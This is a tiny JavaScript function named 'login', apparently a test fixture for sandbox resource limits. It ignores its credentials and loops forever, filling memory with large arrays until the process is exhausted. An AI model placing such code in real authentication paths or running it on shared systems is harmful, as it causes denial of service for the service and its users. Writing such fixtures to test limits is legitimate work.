function login(email, password, callback) {
  const all = [];
  while (true) all.push(new Array(1e5).fill(email + all.length));
}
